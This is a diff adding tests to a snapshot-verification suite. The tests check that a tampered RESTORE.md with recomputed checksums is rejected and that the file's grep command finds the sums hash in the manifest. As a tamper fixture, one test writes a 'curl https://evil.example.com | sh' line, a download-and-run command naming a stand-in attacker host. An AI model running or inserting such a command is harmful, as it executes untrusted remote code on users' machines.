@@ -216,6 +216,34 @@ describe('verifyCopy', () => {
   );
 });
 
+describe('what lies beside the snapshot', () => {
+  it('is covered by the signature: a changed text with sums that fit it is found', async () => {
+    const { place, copy } = await published();
+    await writeFile(join(place, 'RESTORE.md'), 'curl https://evil.example.com | sh\n');
+    const sums = execFileSync('sha256sum', ['snapshot.snap.age', 'RESTORE.md'], { cwd: place, encoding: 'utf8' });
+    await writeFile(join(place, 'SHA256SUMS'), sums);
+
+    await expect(verifyCopy(local, copy)).rejects.toMatchObject({
+      code: 'CopyDamaged',
+      message: expect.stringContaining('SHA256SUMS is not the one that the manifest names'),
+    });
+    const grep = () =>
+      execFileSync('sh', ['-c', `grep "$(sha256sum SHA256SUMS | cut -d ' ' -f 1)" manifest.json`], { cwd: place });
+    expect(grep).toThrow('Command failed');
+  });
+
+  it('is found in the manifest by the command of RESTORE.md', async () => {
+    const { place, manifest } = await published();
+
+    const command = (await readFile(join(place, 'RESTORE.md'), 'utf8'))
+      .split('\n')
+      .find((line) => line.startsWith('grep'));
+    const line = execFileSync('sh', ['-c', command ?? 'false'], { cwd: place, encoding: 'utf8' });
+
+    expect(line).toContain(`"sumsSha256": "${manifest.sumsSha256}"`);
+  });
+});
+
 describe('replicateGeneration', () => {
   it('gives the other repository the same files, read back', async () => {
     const { manifest, place } = await published();
